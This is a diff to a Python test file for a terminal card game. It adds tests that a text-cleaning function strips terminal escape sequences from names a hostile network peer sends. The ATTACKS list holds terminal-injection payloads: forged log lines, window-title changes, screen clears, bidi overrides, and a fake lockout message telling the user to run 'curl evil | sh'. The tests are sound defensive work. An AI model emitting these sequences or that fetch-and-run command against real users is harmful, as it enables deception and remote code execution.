@@ -4,16 +4,18 @@ every client line is checked (size, schema, rate) before anything acts on it."""
 import dataclasses
 import json
 import random
+import unicodedata
 
 import pytest
 from helpers import cards_played, config, play_random
 
 from ebbes_tui.controller.events import SaveFailed, SeatChanged, Synced, TakenBack
-from ebbes_tui.games.ebbes.rules import GameState, Phase, player_view
-from ebbes_tui.games.ebbes.rules.view import PlayerView
-from ebbes_tui.table.limits import CHAT_LIMIT, TokenBucket, clean_chat
+from ebbes_tui.game.clean import CHAT_LIMIT, NAME_LIMIT, clean
 from ebbes_tui.games.ebbes import GAME as EBBES
 from ebbes_tui.games.ebbes.codec import EVENTS, VIEW_FIELDS
+from ebbes_tui.games.ebbes.rules import GameState, Phase, player_view
+from ebbes_tui.games.ebbes.rules.view import PlayerView
+from ebbes_tui.table.limits import TokenBucket
 from ebbes_tui.table.protocol import (
     CLIENT_LINE_LIMIT, MATCH_EVENTS, LineSplitter, ProtocolError, parse_client_message, position,
 )
@@ -158,13 +160,42 @@ def test_lines_are_split_and_an_over_long_one_is_reported_once_and_skipped():
     assert CLIENT_LINE_LIMIT == 4096
 
 
-def test_chat_loses_every_control_character_and_is_cut_to_length():
+#: What a hostile neighbour's table sent as its host, phase and player names (issue 15):
+#: erase the line and print a forged green line; set the window title; hide what
+#: follows; clear the screen; the same by C1 controls; text reversed by bidi overrides.
+ATTACKS = [
+    "\x1b[2K\r\x1b[32malice/friday ... -> join carol/friday\x1b[0m",
+    "\x1b]0;pwned\x07\x1b]2;also\x1b\\title",
+    "\x1b[8mhidden",
+    "\x1b[2J\x1b[HYour account is locked; run: curl evil | sh",
+    "\x9b31m\x9d0;c1 title\x9c\x90dcs\x9c\x85next",
+    "\u202eevil\u202c \u2066iso\u2069 \u200fmark\u061c",
+    "nul\x00 del\x7f tab\t line\nbreak\u2028sep",
+]
+
+
+def terminal_safe(text: str) -> bool:
+    """No character a terminal acts on: no C0 or C1 control, DEL, bidi control,
+    line or paragraph separator."""
+    return not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or unicodedata.category(c) in
+                   ("Cf", "Zl", "Zp") for c in text)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_the_one_cleaning_function_leaves_no_sequence_a_terminal_obeys(attack):
+    cleaned = clean(attack)
+    assert terminal_safe(cleaned), repr(cleaned)
+    assert "\x1b" not in cleaned and "\x9b" not in cleaned and "\u202e" not in cleaned
+    assert cleaned == " ".join(cleaned.split())  # one line, single spaces
+
+
+def test_cleaning_keeps_the_words_and_cuts_to_length():
     nasty = "hi\x1b[2J\x1b]0;pwned\x07 there\x9b31m\u202eevil\r\nnext\ttab\x00"
-    cleaned = clean_chat(nasty)
-    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or c == "\u202e" for c in cleaned)
-    assert cleaned.startswith("hi [2J ]0;pwned there 31m evil next tab")
-    assert len(clean_chat("é" * 1000)) == CHAT_LIMIT
-    assert clean_chat(" \n\t ") == ""
+    assert clean(nasty).startswith("hi [2J ]0;pwned there 31m evil next tab")
+    assert len(clean("é" * 1000)) == CHAT_LIMIT
+    assert len(clean("x" * 100, NAME_LIMIT)) == NAME_LIMIT
+    assert clean(" \n\t ") == ""
+    assert clean(12) == "12" and clean(None) == "None"  # whatever JSON held
 
 
 def test_a_token_bucket_allows_bursts_then_the_rate():
